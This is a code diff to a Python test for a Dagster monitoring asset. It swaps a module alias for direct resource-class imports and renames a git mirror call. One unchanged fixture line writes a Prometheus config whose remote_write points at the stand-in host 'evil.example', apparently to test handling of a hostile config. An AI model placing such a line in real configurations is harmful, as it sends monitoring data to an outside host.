@@ -26,7 +26,7 @@ from infraaudit_domain.deployments import Deployment, Outcome
 from infraaudit_domain.errors import MonitoringError
 from infraaudit_domain.metrics import METRICS
 from infraaudit_domain.projects import Project
-from resources.dagster import resources as shells
+from resources.dagster.resources import ArtifactsResource, GitResource, HistoryResource, PrometheusResource
 from resources.history import History
 from resources.prometheus import reload_prometheus, wait_until_scraped
 from service.app import ServiceOptions, build_app
@@ -180,19 +180,19 @@ def test_the_monitoring_asset_is_done_when_prometheus_has_the_commit_up(
     own = "scrape_configs: [{job_name: books, scrape_interval: 5s}]\nremote_write: [{url: 'http://evil.example'}]\n"
     sha, now = repository.write({"configs/prometheus/prometheus.yml": own}, "one"), datetime.now(UTC)
     project = Project("books", str(repository.path))
-    git = shells.GitResource(state=str(tmp_path))
-    git.mirror(project).fetch()
+    git = GitResource(state=str(tmp_path))
+    git.connect(project).fetch()
     history.record_project(project)
-    history.record_commit("books", git.mirror(project).commit(sha))
+    history.record_commit("books", git.connect(project).commit(sha))
     history.record_deployment(
         Deployment("books", "production", sha, "c", Outcome.DEPLOYED, now, now, "i", url=deployed)
     )
     commits = dg.DynamicPartitionsDefinition(name="commits")
     given = {
         "git": git,
-        "history": shells.HistoryResource(url=history.url, gate_file=""),
-        "artifacts": shells.ArtifactsResource(state=str(tmp_path), reports=str(tmp_path)),
-        "prometheus": shells.PrometheusResource(url=prometheus),
+        "history": HistoryResource(url=history.url, gate_file=""),
+        "artifacts": ArtifactsResource(state=str(tmp_path), reports=str(tmp_path)),
+        "prometheus": PrometheusResource(url=prometheus),
     }
     before = reloaded_at(prometheus)
     with dg.DagsterInstance.ephemeral() as instance:
